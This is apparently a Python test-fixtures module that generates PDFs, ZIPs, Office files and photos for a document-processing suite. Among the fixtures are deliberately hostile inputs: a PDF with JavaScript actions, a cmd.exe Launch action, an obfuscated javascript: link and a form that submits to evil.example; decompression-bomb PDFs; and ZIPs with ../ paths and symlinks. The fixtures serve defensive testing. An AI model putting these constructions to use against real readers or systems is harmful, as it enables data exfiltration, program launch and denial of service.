"""Inputs the core suite makes for itself: PDFs with known text, ZIPs of them, and files that fail their check."""

from __future__ import annotations

import datetime as dt
import io
import stat
import struct
import zipfile
import zlib
from pathlib import Path

from fpdf import FPDF
from pypdf import PdfReader, PdfWriter

FIXED_DATE = dt.datetime(2026, 9, 1, 8, 0, tzinfo=dt.UTC)


def make_pdf(path: Path, pages: int, label: str = "Page", size: str = "A4", landscape: bool = False) -> Path:
    """A PDF whose page i (1-based) says '<label> i'."""
    pdf = FPDF(orientation="L" if landscape else "P", format=size)
    pdf.set_font("helvetica", size=28)
    for number in range(1, pages + 1):
        pdf.add_page()
        pdf.cell(text=f"{label} {number}")
    path.parent.mkdir(parents=True, exist_ok=True)
    pdf.output(str(path))
    return path


def pdf_bytes(pages: int, label: str = "Page") -> bytes:
    """A PDF's bytes, the same for the same pages and label (so the same file uploaded twice is
    the same bytes, whenever the second second begins)."""
    pdf = FPDF()
    pdf.set_creation_date(FIXED_DATE)
    pdf.set_font("helvetica", size=28)
    for number in range(1, pages + 1):
        pdf.add_page()
        pdf.cell(text=f"{label} {number}")
    return bytes(pdf.output())


def encrypt_pdf(src: Path, dest: Path, user_password: str, owner_password: str = "owner") -> Path:
    writer = PdfWriter(clone_from=PdfReader(src))
    writer.encrypt(user_password=user_password, owner_password=owner_password, algorithm="AES-128")
    writer.write(dest)
    return dest


def zip_of(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in files.items():
            zf.writestr(name, data)
    return buffer.getvalue()


def page_texts(path: Path) -> list[str]:
    return [page.extract_text().strip() for page in PdfReader(path).pages]


def png_bytes() -> bytes:
    """A real 1×1 PNG picture (named .pdf, it is the classic "not really a PDF")."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\x00\x00")
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def damaged_pdf_bytes(pages: int = 3) -> bytes:
    """A PDF cut off halfway, as an interrupted download leaves it: beyond repair."""
    data = pdf_bytes(pages)
    return data[: len(data) // 2]


def locked_ods_bytes() -> bytes:
    """An OpenDocument spreadsheet saved with a password, as LibreOffice packs it (its parts are encrypted)."""
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" '
        'manifest:version="1.2">'
        '<manifest:file-entry manifest:full-path="/" '
        'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml" '
        'manifest:size="1200"><manifest:encryption-data manifest:checksum-type="SHA1/1K" '
        'manifest:checksum="AAAA"><manifest:algorithm manifest:algorithm-name="Blowfish CFB" '
        'manifest:initialisation-vector="AAAA"/></manifest:encryption-data></manifest:file-entry>'
        "</manifest:manifest>"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        zf.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        zf.writestr("META-INF/manifest.xml", manifest)
        zf.writestr("content.xml", bytes(range(256)) * 5, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def raw_pdf(objects: list[bytes]) -> bytes:
    """A PDF written byte by byte from its objects (object 1 is the catalog), with a correct xref."""
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def zero_page_pdf() -> bytes:
    """A well-formed PDF whose page list is empty."""
    return raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"])


def deep_page_tree_pdf(depth: int) -> bytes:
    """One page under `depth` nested page-tree nodes (readers cope; pypdf stops at 100 levels)."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    for level in range(depth):
        number = 2 + level
        parent = b"" if level == 0 else b"/Parent %d 0 R " % (number - 1)
        objects.append(b"<< /Type /Pages %s/Kids [%d 0 R] /Count 1 >>" % (parent, number + 1))
    objects.append(b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] >>" % (depth + 1))
    return raw_pdf(objects)


def big_page_pdf(path: Path, content_bytes: int) -> Path:
    """One A4 page whose drawing is `content_bytes` of plain (unpacked) instructions."""
    line = b"0 0 m 1 1 l S\n"
    content = line * (content_bytes // len(line) + 1)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(
        raw_pdf(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
                b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
            ]
        )
    )
    return path


def zip_with_links(files: dict[str, bytes], links: dict[str, str]) -> bytes:
    """A ZIP of `files` (names kept exactly, even ../ ones) plus symbolic links name → target."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in files.items():
            zf.writestr(zipfile.ZipInfo(name), data)
        for name, target in links.items():
            info = zipfile.ZipInfo(name)
            info.external_attr = (stat.S_IFLNK | 0o777) << 16
            zf.writestr(info, target)
    return buffer.getvalue()


def stream_bomb_pdf(path: Path, inflated_bytes: int = 600_000_000) -> Path:
    """One A4 page whose content stream is small on disk and `inflated_bytes` of drawing once unpacked."""
    import zlib

    line = b"0 0 m 1 1 l S\n"
    chunk = line * (1_000_000 // len(line))
    packer = zlib.compressobj(9)
    packed = bytearray()
    for _ in range(inflated_bytes // len(chunk) + 1):
        packed += packer.compress(chunk)
    packed += packer.flush()
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(
        raw_pdf(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
                b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(packed)
                + bytes(packed)
                + b"\nendstream",
            ]
        )
    )
    return path


def image_bomb_pdf(path: Path, side: int = 40_000) -> Path:
    """One A4 page showing an image that declares `side` × `side` RGB pixels behind a few MB of data."""
    import zlib

    data = zlib.compress(b"\0" * 4_000_000, 9)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(
        raw_pdf(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
                b"/Resources << /XObject << /Im0 5 0 R >> >> >>",
                b"<< /Length 32 >>\nstream\nq 500 0 0 700 40 60 cm /Im0 Do Q\nendstream",
                b"<< /Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceRGB "
                b"/BitsPerComponent 8 /Filter /FlateDecode /Length %d >>\nstream\n"
                % (side, side, len(data))
                + data
                + b"\nendstream",
            ]
        )
    )
    return path


SAFE_LINK = "https://example.org/worksheet"


def hostile_pdf(path: Path, pages: int = 3) -> Path:
    """A PDF with every kind of active content an attacker would try, beside a plain web link
    and a link inside the document that must survive. Made here, with pypdf's objects."""
    from pypdf.generic import (
        ArrayObject,
        DecodedStreamObject,
        DictionaryObject,
        FloatObject,
        NameObject,
        NumberObject,
        TextStringObject,
    )

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_bytes(pages, "Hostile"))))

    def name(text: str) -> NameObject:
        return NameObject(text)

    def action(kind: str, **entries) -> DictionaryObject:
        return DictionaryObject(
            {
                name("/Type"): name("/Action"),
                name("/S"): name(kind),
                **{name(k): v for k, v in entries.items()},
            }
        )

    def js(code: str) -> DictionaryObject:
        return action("/JavaScript", **{"/JS": TextStringObject(code)})

    def ref(obj):
        return writer._add_object(obj)

    def rect(x: float) -> ArrayObject:
        return ArrayObject([FloatObject(x), FloatObject(700), FloatObject(x + 40), FloatObject(740)])

    embedded = DecodedStreamObject()
    embedded.set_data(b"MZ pretend this is a program")
    embedded[name("/Type")] = name("/EmbeddedFile")
    filespec = DictionaryObject(
        {
            name("/Type"): name("/Filespec"),
            name("/F"): TextStringObject("payload.exe"),
            name("/EF"): DictionaryObject({name("/F"): ref(embedded)}),
        }
    )
    root = writer.root_object
    root[name("/OpenAction")] = ref(js("app.alert('open')"))
    root[name("/AA")] = DictionaryObject({name("/WC"): ref(js("app.alert('close')"))})
    root[name("/Names")] = DictionaryObject(
        {
            name("/JavaScript"): DictionaryObject(
                {name("/Names"): ArrayObject([TextStringObject("init"), ref(js("app.alert('doc')"))])}
            ),
            name("/EmbeddedFiles"): DictionaryObject(
                {name("/Names"): ArrayObject([TextStringObject("payload.exe"), ref(filespec)])}
            ),
        }
    )
    root[name("/AF")] = ArrayObject([ref(filespec)])
    xfa = DecodedStreamObject()
    xfa.set_data(b"<xdp:xdp><script>app.alert('xfa')</script></xdp:xdp>")
    field = DictionaryObject(
        {
            name("/Type"): name("/Annot"),
            name("/Subtype"): name("/Widget"),
            name("/FT"): name("/Tx"),
            name("/T"): TextStringObject("Name"),
            name("/Rect"): rect(200),
            name("/AA"): DictionaryObject({name("/K"): ref(js("event.rc = true"))}),
        }
    )
    submit = DictionaryObject(
        {
            name("/Type"): name("/Annot"),
            name("/Subtype"): name("/Widget"),
            name("/FT"): name("/Btn"),
            name("/Ff"): NumberObject(65536),
            name("/T"): TextStringObject("Send"),
            name("/Rect"): rect(260),
            name("/A"): ref(
                action("/SubmitForm", **{"/F": TextStringObject("https://evil.example/collect")})
            ),
        }
    )
    field_ref, submit_ref = ref(field), ref(submit)
    root[name("/AcroForm")] = DictionaryObject(
        {name("/Fields"): ArrayObject([field_ref, submit_ref]), name("/XFA"): ref(xfa)}
    )
    first = writer.pages[0]
    first_ref = first.indirect_reference
    annotations = [
        DictionaryObject(  # launches a program
            {
                name("/Type"): name("/Annot"),
                name("/Subtype"): name("/Link"),
                name("/Rect"): rect(20),
                name("/A"): ref(action("/Launch", **{"/F": TextStringObject("cmd.exe")})),
            }
        ),
        DictionaryObject(  # a javascript: address, hidden behind a tab
            {
                name("/Type"): name("/Annot"),
                name("/Subtype"): name("/Link"),
                name("/Rect"): rect(80),
                name("/A"): action("/URI", **{"/URI": TextStringObject("java\tscript:alert(1)")}),
            }
        ),
        DictionaryObject(  # a plain web link: stays
            {
                name("/Type"): name("/Annot"),
                name("/Subtype"): name("/Link"),
                name("/Rect"): rect(140),
                name("/A"): action("/URI", **{"/URI": TextStringObject(SAFE_LINK)}),
            }
        ),
        DictionaryObject(  # a link to page 2, then a script chained after it: the link stays
            {
                name("/Type"): name("/Annot"),
                name("/Subtype"): name("/Link"),
                name("/Rect"): rect(320),
                name("/A"): action(
                    "/GoTo",
                    **{
                        "/D": ArrayObject([writer.pages[min(1, pages - 1)].indirect_reference, name("/Fit")]),
                        "/Next": ArrayObject([ref(js("app.alert('next')")), ref(action("/ImportData"))]),
                    },
                ),
            }
        ),
        DictionaryObject(  # an attached file on the page
            {
                name("/Type"): name("/Annot"),
                name("/Subtype"): name("/FileAttachment"),
                name("/Rect"): rect(380),
                name("/FS"): ref(filespec),
            }
        ),
        field_ref,
        submit_ref,
    ]
    first[name("/Annots")] = ArrayObject(
        ref(a) if isinstance(a, DictionaryObject) else a for a in annotations
    )
    first[name("/AA")] = DictionaryObject({name("/O"): ref(js("app.alert('page')"))})
    for widget in (field, submit):
        widget[name("/P")] = first_ref
    writer.add_outline_item(title="Chapter", page_number=0)
    outline = writer.root_object["/Outlines"].get_object()["/First"].get_object()
    outline[name("/A")] = ref(js("app.alert('outline')"))
    with path.open("wb") as out:
        writer.write(out)
    return path


# -- Documents and photos (issue #17) --------------------------------------------------------


def docx_file(path: Path, pages: int = 2, heading: str = "Fractions worksheet", table: bool = True) -> Path:
    """A real Word file: a heading, a table and `pages` pages (each after the first begins with a page break)."""
    import docx
    from docx.enum.text import WD_BREAK

    document = docx.Document()
    for page in range(1, pages + 1):
        if page > 1:
            document.paragraphs[-1].add_run().add_break(WD_BREAK.PAGE)
        document.add_heading(f"{heading} — part {page}", level=1)
        document.add_paragraph(f"Name: ________  Question page {page}.")
        if table:
            grid = document.add_table(rows=3, cols=3)
            grid.style = "Table Grid"
            for r, row in enumerate(grid.rows):
                for c, cell in enumerate(row.cells):
                    cell.text = f"{r + 1}/{c + 2}"
    document.save(path)
    return path


def pptx_file(path: Path, slides: int = 3, notes: str = "") -> Path:
    """A real PowerPoint file: `slides` title slides, with speaker notes when `notes` is given."""
    import pptx

    deck = pptx.Presentation()
    for number in range(1, slides + 1):
        slide = deck.slides.add_slide(deck.slide_layouts[1])
        slide.shapes.title.text = f"Slide {number}: photosynthesis"
        slide.placeholders[1].text = f"Point {number}"
        if notes:
            slide.notes_slide.notes_text_frame.text = f"{notes} {number}"
    deck.save(path)
    return path


def photo_file(
    path: Path,
    size: tuple[int, int] = (1200, 900),
    orientation: int = 1,
    fmt: str = "JPEG",
    marker: bool = True,
) -> Path:
    """A photo-like picture (noise, so it stays a photo) with a red block at its top-left corner as
    stored, and an EXIF orientation tag: a viewer that honours the tag shows the block elsewhere."""
    from PIL import Image

    width, height = size
    # Smooth blotches of light colour, as a photo has (noise made small and scaled up: Pillow's
    # own, in C, so quick even for 12 megapixels), with a little grain on top.
    small = (max(1, width // 16), max(1, height // 16))
    channels = [
        Image.effect_noise(small, 60).resize(size, Image.Resampling.BICUBIC).point(lambda v: 150 + v // 3)
        for _ in range(3)
    ]
    image = Image.merge("RGB", channels)
    if marker:
        image.paste((220, 0, 0), (0, 0, width // 4, height // 4))
    exif = Image.Exif()
    exif[0x0112] = orientation
    if fmt == "HEIF":
        from pillow_heif import register_heif_opener

        register_heif_opener()
    image.save(path, fmt, exif=exif.tobytes(), **({"quality": 90} if fmt in ("JPEG", "HEIF") else {}))
    return path


def colourful_pdf(path: Path) -> Path:
    """A two-page PDF that sets colour every way a PDF can (written object by object with pikepdf).

    Page 1, a handout: text in red, blue and CMYK green; lines; fills in ICC-based RGB, Lab, a spot
    colour (Separation, exponential tint) and a calculator-function spot colour; DeviceN; a
    gradient (axial, stitched); an RGB photo-like picture (Flate), a JPEG, an Indexed picture; a
    form XObject with its own colours; a transparency group seen through a soft mask; an uncoloured
    tiling pattern, its colour given where it is used.
    Page 2, a slide: a full-page black background, white title text, a yellow box, red text.
    """
    import io
    import zlib

    import pikepdf
    from PIL import Image, ImageCms

    pdf = pikepdf.new()
    srgb = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    icc = pdf.make_stream(srgb, N=3, Alternate=pikepdf.Name.DeviceRGB)
    red_spot = pikepdf.Array([
        pikepdf.Name.Separation, pikepdf.Name("/PANTONE 185 C"), pikepdf.Name.DeviceCMYK,
        pikepdf.Dictionary(FunctionType=2, Domain=[0, 1], C0=[0, 0, 0, 0], C1=[0, 0.91, 0.76, 0], N=1),
    ])  # fmt: skip
    teal_spot = pikepdf.Array([
        pikepdf.Name.Separation, pikepdf.Name("/Teal"), pikepdf.Name.DeviceRGB,
        pdf.make_stream(b"{ dup 0 mul exch dup 0.5 mul 1 exch sub exch 0.5 mul 1 exch sub }",
                        FunctionType=4, Domain=[0, 1], Range=[0, 1, 0, 1, 0, 1]),
    ])  # fmt: skip
    duo = pikepdf.Array([
        pikepdf.Name.DeviceN, pikepdf.Array([pikepdf.Name.Cyan, pikepdf.Name.Magenta]), pikepdf.Name.DeviceCMYK,
        pdf.make_stream(b"{ 0 0 }", FunctionType=4, Domain=[0, 1, 0, 1], Range=[0, 1] * 4),
    ])  # fmt: skip
    spaces = pikepdf.Dictionary(
        ICC=pikepdf.Array([pikepdf.Name.ICCBased, icc]),
        LAB=pikepdf.Array([pikepdf.Name.Lab, pikepdf.Dictionary(WhitePoint=[0.9505, 1, 1.089], Range=[-100, 100, -100, 100])]),
        Spot=red_spot,
        Teal=teal_spot,
        Duo=duo,
        Tiles=pikepdf.Array([pikepdf.Name.Pattern, pikepdf.Name.DeviceRGB]),
    )  # fmt: skip
    tile = pdf.make_stream(b"0 0 10 10 re f", Type=pikepdf.Name.Pattern, PatternType=1, PaintType=2, TilingType=1,
                           BBox=[0, 0, 10, 10], XStep=10, YStep=10, Resources=pikepdf.Dictionary())  # fmt: skip
    gradient = pikepdf.Dictionary(
        ShadingType=2, ColorSpace=pikepdf.Name.DeviceRGB, Coords=[60, 0, 540, 0], Extend=[True, True],
        Function=pikepdf.Dictionary(FunctionType=3, Domain=[0, 1], Bounds=[0.5], Encode=[0, 1, 0, 1], Functions=[
            pikepdf.Dictionary(FunctionType=2, Domain=[0, 1], C0=[1, 0, 0], C1=[0, 1, 0], N=1),
            pikepdf.Dictionary(FunctionType=2, Domain=[0, 1], C0=[0, 1, 0], C1=[0, 0, 1], N=1),
        ]),
    )  # fmt: skip
    noise = Image.merge(
        "RGB", [Image.effect_noise((96, 64), 80).point(lambda v, k=k: (v + 85 * k) % 256) for k in range(3)]
    )
    photo = pdf.make_stream(zlib.compress(noise.tobytes()), Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Image,
                            Width=96, Height=64, ColorSpace=pikepdf.Name.DeviceRGB, BitsPerComponent=8,
                            Filter=pikepdf.Name.FlateDecode)  # fmt: skip
    jpeg_bytes = io.BytesIO()
    noise.resize((192, 128)).save(jpeg_bytes, "JPEG", quality=85)
    jpeg = pdf.make_stream(jpeg_bytes.getvalue(), Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Image,
                           Width=192, Height=128, ColorSpace=pikepdf.Name.DeviceRGB, BitsPerComponent=8,
                           Filter=pikepdf.Name.DCTDecode)  # fmt: skip
    palette = bytes([255, 0, 0, 0, 128, 0, 0, 0, 255, 255, 200, 0])
    indexed = pdf.make_stream(bytes((x // 8 + y // 8) % 4 for y in range(32) for x in range(32)),
                              Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Image, Width=32, Height=32,
                              ColorSpace=pikepdf.Array([pikepdf.Name.Indexed, pikepdf.Name.DeviceRGB, 3,
                                                        pikepdf.String(palette)]),
                              BitsPerComponent=8)  # fmt: skip
    badge = pdf.make_stream(b"0 0.6 0 rg 0 0 40 40 re f 1 0 1 RG 4 w 5 5 30 30 re S",
                            Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form, BBox=[0, 0, 40, 40])  # fmt: skip
    mask_group = pdf.make_stream(b"0.5 g 0 0 595 842 re f", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form,
                                 BBox=[0, 0, 595, 842],
                                 Group=pikepdf.Dictionary(S=pikepdf.Name.Transparency, CS=pikepdf.Name.DeviceGray))  # fmt: skip
    see_through = pdf.make_stream(b"0 0 1 rg 420 60 120 80 re f 1 0.5 0 rg 450 80 60 40 re f",
                                  Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form, BBox=[0, 0, 595, 842],
                                  Group=pikepdf.Dictionary(S=pikepdf.Name.Transparency, CS=pikepdf.Name.DeviceRGB,
                                                           I=True))  # fmt: skip
    states = pikepdf.Dictionary(
        Soft=pikepdf.Dictionary(Type=pikepdf.Name.ExtGState,
                                SMask=pikepdf.Dictionary(S=pikepdf.Name.Luminosity, G=mask_group)),
        Half=pikepdf.Dictionary(Type=pikepdf.Name.ExtGState, ca=0.5, CA=0.5),
    )  # fmt: skip
    font = pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica,
                              Encoding=pikepdf.Name.WinAnsiEncoding)  # fmt: skip
    handout = b"""
BT /F1 20 Tf 1 0 0 rg 60 780 Td (Red title of the handout) Tj ET
BT /F1 12 Tf 0 0 1 rg 60 750 Td (Blue words) Tj 0.8 0 0.9 0 k 120 0 Td (CMYK green words) Tj ET
BT /F1 12 Tf 0 g 60 730 Td (Black words stay black) Tj ET
0 0.5 0 RG 2 w 60 720 m 540 720 l S
/ICC cs 0.9 0.4 0.1 sc 60 640 100 60 re f
/LAB cs 60 40 60 sc 180 640 100 60 re f
/Spot cs 1 scn 300 640 100 60 re f
/Teal cs 0.8 scn 420 640 100 60 re f
/Duo cs 0.7 0.4 scn 60 560 100 60 re f
q 180 560 360 60 re W n /Grad sh Q
q 96 0 0 64 60 460 cm /Photo Do Q
q 192 0 0 128 180 430 cm /Jpeg Do Q
q 64 0 0 64 400 460 cm /Indexed Do Q
q 1 0 0 1 480 460 cm /Badge Do Q
q /Half gs 1 0 0 rg 60 300 200 100 re f Q
q /Soft gs /SeeThrough Do Q
/Tiles cs 0.1 0.6 0.2 /Tile scn 300 300 100 100 re f
"""
    slide = b"""
0 g 0 0 842 595 re f
BT /F1 36 Tf 1 g 60 500 Td (White title on black) Tj ET
1 0.85 0 rg 60 200 300 200 re f
BT /F1 18 Tf 0.85 0 0 rg 420 300 Td (Red words) Tj ET
"""
    resources = pikepdf.Dictionary(
        Font=pikepdf.Dictionary(F1=font),
        ColorSpace=spaces,
        Shading=pikepdf.Dictionary(Grad=gradient),
        XObject=pikepdf.Dictionary(
            Photo=photo, Jpeg=jpeg, Indexed=indexed, Badge=badge, SeeThrough=see_through
        ),
        ExtGState=states,
        Pattern=pikepdf.Dictionary(Tile=tile),
    )
    for content, box in ((handout, [0, 0, 595, 842]), (slide, [0, 0, 842, 595])):
        page = pikepdf.Page(pikepdf.Dictionary(Type=pikepdf.Name.Page, MediaBox=box, Resources=resources,
                                               Contents=pdf.make_stream(content)))  # fmt: skip
        pdf.pages.append(page)
    pdf.save(path)
    return path


def slides_pptx(path: Path, picture: Path | None = None) -> Path:
    """A real PowerPoint deck as teachers make them: a dark slide (black background, white title,
    a coloured box, a gradient, a photo) and a light one (coloured title and bullets)."""
    import pptx
    from pptx.dml.color import RGBColor
    from pptx.enum.shapes import MSO_SHAPE
    from pptx.util import Cm, Pt

    deck = pptx.Presentation()
    dark = deck.slides.add_slide(deck.slide_layouts[5])  # title only
    dark.background.fill.solid()
    dark.background.fill.fore_color.rgb = RGBColor(0, 0, 0)
    dark.shapes.title.text = "The water cycle"
    for run in dark.shapes.title.text_frame.paragraphs[0].runs:
        run.font.color.rgb = RGBColor(255, 255, 255)
        run.font.size = Pt(40)
    box = dark.shapes.add_shape(MSO_SHAPE.ROUNDED_RECTANGLE, Cm(2), Cm(6), Cm(8), Cm(5))
    box.fill.solid()
    box.fill.fore_color.rgb = RGBColor(30, 144, 255)
    box.text_frame.text = "Evaporation"
    sky = dark.shapes.add_shape(MSO_SHAPE.RECTANGLE, Cm(12), Cm(6), Cm(10), Cm(5))
    sky.fill.gradient()
    sky.fill.gradient_stops[0].color.rgb = RGBColor(255, 140, 0)
    sky.fill.gradient_stops[1].color.rgb = RGBColor(128, 0, 128)
    if picture is not None:
        dark.shapes.add_picture(str(picture), Cm(2), Cm(12), height=Cm(5))
    light = deck.slides.add_slide(deck.slide_layouts[1])
    light.shapes.title.text = "Key words"
    for run in light.shapes.title.text_frame.paragraphs[0].runs:
        run.font.color.rgb = RGBColor(200, 0, 0)
    light.placeholders[1].text = "Condensation, precipitation, collection"
    deck.save(path)
    return path
